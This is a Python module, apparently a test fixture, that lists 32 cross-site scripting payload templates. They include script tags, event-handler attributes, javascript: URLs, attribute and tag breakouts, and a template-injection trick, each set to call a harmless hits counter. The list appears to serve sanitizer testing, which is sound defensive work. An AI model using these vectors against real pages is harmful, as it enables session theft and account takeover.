"""Texts that run a script wherever they are taken for markup; `RUN` stands for the script."""

from __future__ import annotations

_TEMPLATES = (
    "<script>RUN</script>",
    '<img src=x onerror="RUN">',
    "<img src=x onerror=RUN//",
    '<svg onload="RUN"></svg>',
    "<svg><script>RUN</script></svg>",
    '<svg><animate onbegin="RUN" attributeName=x dur=1s></svg>',
    '<details open ontoggle="RUN"><summary>x</summary></details>',
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    '<iframe src="javascript:parent.RUN"></iframe>',
    '<iframe onload="RUN"></iframe>',
    '<video><source onerror="RUN"></video>',
    '<audio src=x onerror="RUN"></audio>',
    '<input autofocus onfocus="RUN">',
    '<button autofocus onfocus="RUN">x</button>',
    '<body onload="RUN">',
    '<object data=x onerror="RUN"></object>',
    '<embed src="javascript:parent.RUN">',
    '<link rel=stylesheet href=x onerror="RUN">',
    '<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart="RUN">x</b>',
    '<marquee onstart="RUN">x</marquee>',
    '<a href="javascript:RUN" autofocus onfocus="RUN">x</a>',
    '<div contenteditable autofocus onfocus="RUN">x</div>',
    '<math><mtext><img src=x onerror="RUN"></mtext></math>',
    '<picture><img srcset=x onerror="RUN"></picture>',
    '"><img src=x onerror="RUN">',
    "' onmouseover='RUN' x='",
    '" onfocus="RUN" autofocus="',
    '</title><img src=x onerror="RUN">',
    '</td></tr></table><img src=x onerror="RUN">',
    '<button data-commandlinker-command="notebook:run-cell" data-commandlinker-args="{}">x',
    "javascript:RUN",
    "{{constructor.constructor('RUN')()}}",
)


def payloads() -> list[str]:
    """Return 32 texts; each one that runs adds its number to the page's `hits`."""
    return [text.replace("RUN", f"hits.add({n})") for n, text in enumerate(_TEMPLATES)]
